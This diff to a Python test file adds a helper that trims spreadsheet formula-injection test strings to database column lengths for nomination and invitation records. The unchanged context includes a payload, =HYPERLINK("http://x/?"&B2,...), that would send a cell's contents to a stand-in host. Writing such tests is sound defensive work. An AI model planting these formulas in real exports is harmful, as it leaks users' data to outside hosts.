@@ -24,7 +24,7 @@ from rules.plans import SEED_PLAN, apply_plan, load_plan_file
 from rules.roles import OPERATOR
 from rules.text import fold
 from storage.db import Database
-from storage.models import Campaign, Conference, Nomination, OrgUnit, SeatPool
+from storage.models import Campaign, Conference, Invitation, Nomination, OrgUnit, SeatPool
 
 NOW = dt.datetime(2020, 5, 20, 3, 0, tzinfo=dt.UTC)
 SECRET = b"test-link-secret"
@@ -37,6 +37,14 @@ def hostile(field: str, number: int) -> str:
     if number % 5 == 0:
         return f'=HYPERLINK("http://x/?"&B2,"{field}")'
     return f"{PREFIXES[number % 4]}1+1 {field}"
+
+
+def fitted(model: type, field: str, number: int) -> str:
+    """The hostile text cut to the column's length: PostgreSQL refuses what SQLite would store whole,
+    and the rules cut typed answers to the same lengths before they are saved."""
+    text = hostile(f"{model.__tablename__} {field}", number)
+    length = getattr(model.__table__.c[field].type, "length", None)
+    return text[:length] if length else text
 
 
 NOMINATION_FIELDS = (
@@ -100,7 +108,7 @@ async def _hostile_world(database: Database) -> tuple[int, set[str]]:
             submitted_at=NOW,
         )
         for number, field in enumerate(NOMINATION_FIELDS):
-            setattr(nomination, field, hostile(f"nomination {field}", number))
+            setattr(nomination, field, fitted(Nomination, field, number))
         nomination.nominee_fold = fold(nomination.nominee_name or "")
         db.add(nomination)
         invitation = await create_invitation(
@@ -113,10 +121,10 @@ async def _hostile_world(database: Database) -> tuple[int, set[str]]:
         )
         assert invitation is not None
         for number, field in enumerate(INVITATION_FIELDS):
-            setattr(invitation, field, hostile(f"invitation {field}", number))
+            setattr(invitation, field, fitted(Invitation, field, number))
         invitation.status = "accepted"
-        texts |= {hostile(f"nomination {field}", n) for n, field in enumerate(NOMINATION_FIELDS)}
-        texts |= {hostile(f"invitation {field}", n) for n, field in enumerate(INVITATION_FIELDS)}
+        texts |= {fitted(Nomination, field, n) for n, field in enumerate(NOMINATION_FIELDS)}
+        texts |= {fitted(Invitation, field, n) for n, field in enumerate(INVITATION_FIELDS)}
         return conference.id, texts
 
 
